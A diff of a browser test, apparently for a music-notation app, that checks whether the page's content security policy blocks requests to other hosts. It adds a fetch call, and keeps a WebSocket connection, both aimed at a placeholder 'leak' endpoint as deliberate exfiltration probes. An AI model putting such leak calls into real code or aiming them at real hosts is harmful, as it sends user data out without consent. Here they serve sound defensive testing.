@@ -394,13 +394,13 @@ def test_nothing_is_asked_of_any_other_host(context: BrowserContext, server: Ser
     page.on("requestfinished", ended)
     page.on("requestfailed", ended)
     open_studio(page, server)
-    choose_sample(page, "Ode to Joy")  # the melody overview, whose player asks for a CDN
-    expect(page.frame_locator("iframe").locator("svg").first).to_be_visible(timeout=20_000)
+    choose_sample(page, "Ode to Joy")
     generate(page)
     download(page, "MIDI")
     blocked = page.evaluate(
         """() => new Promise((done) => {
           document.addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective));
+          fetch("http://example.invalid/leak").catch(() => {});
           try { new WebSocket("ws://example.invalid/leak"); } catch { done("connect-src"); }
         })"""
     )
